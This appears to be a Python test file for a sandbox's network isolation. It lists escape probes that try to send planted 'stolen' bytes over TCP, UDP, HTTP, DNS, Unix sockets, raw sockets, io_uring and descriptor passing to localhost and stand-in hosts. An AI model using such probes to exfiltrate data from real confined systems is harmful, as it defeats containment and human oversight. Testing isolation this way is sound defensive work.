"""Reach anybody: each attempt also carries what could be stolen."""

from tests.attacks.attack import EACH, Attack, trying

FULL = 2 * EACH
LIBC = "import ctypes, socket\nlibc = ctypes.CDLL(None, use_errno=True)"
STOLEN = "b'planted'"

ATTACKS = {
    "tcp": Attack(
        trying(f"socket.create_connection(('127.0.0.1', @PORT@), 1).sendall({STOLEN})"),
        LIBC,
        FULL,
    ),
    "tcp-version-6": Attack(
        trying("socket.create_connection(('::1', @PORT@), 1).close()"), LIBC, FULL
    ),
    "udp": Attack(
        trying(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"s.sendto({STOLEN}, ('127.0.0.1', @PORT@))\n"
            f"s.sendto({STOLEN}, ('192.0.2.1', 53))"
        ),
        LIBC,
        FULL,
    ),
    "http": Attack(
        trying(
            "import urllib.request\n"
            "urllib.request.urlopen('http://127.0.0.1:@PORT@/planted', timeout=1)"
        ),
        points=FULL,
    ),
    "names": Attack(trying("socket.getaddrinfo('example.org', 80)"), LIBC, FULL),
    "abstract-socket": Attack(
        trying("s = socket.socket(socket.AF_UNIX)\ns.connect('\\0@ABSTRACT@')\ns.sendall(b'x')"),
        LIBC,
        FULL,
    ),
    "socket-in-a-folder": Attack(
        trying("s = socket.socket(socket.AF_UNIX)\ns.connect('@SOCKET@')\ns.sendall(b'x')"),
        LIBC,
        FULL,
    ),
    "addressed-pair": Attack(
        trying(
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            f"a.sendto({STOLEN}, '@DATAGRAMS@')"
        ),
        LIBC,
        FULL,
    ),
    "listens": Attack(
        trying("s = socket.create_server(('127.0.0.1', 0))\ns.close()\nraise SystemExit"),
        LIBC,
        FULL,
    ),
    "raw-and-kernel": Attack(
        trying(
            "for family in (16, 17, 40):\n"  # netlink, packets, virtual machines
            "    try:\n"
            "        socket.socket(family, socket.SOCK_RAW)\n"
            "    except OSError:\n"
            "        continue\n"
            "    raise SystemExit"
        ),
        LIBC,
        FULL,
    ),
    "io-uring": Attack(
        trying("if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0: raise SystemExit"),
        LIBC,
        FULL,
    ),
    "hands-descriptors-out": Attack(
        trying(
            "for d in range(3, 8):\n"
            "    try:\n"
            "        socket.send_fds(socket.socket(fileno=os.dup(d)), [b'pset'], [0, 1, 2])\n"
            "    except OSError:\n"
            "        pass"
        ),
        LIBC,
        EACH,
        "Its process sent",
    ),
}
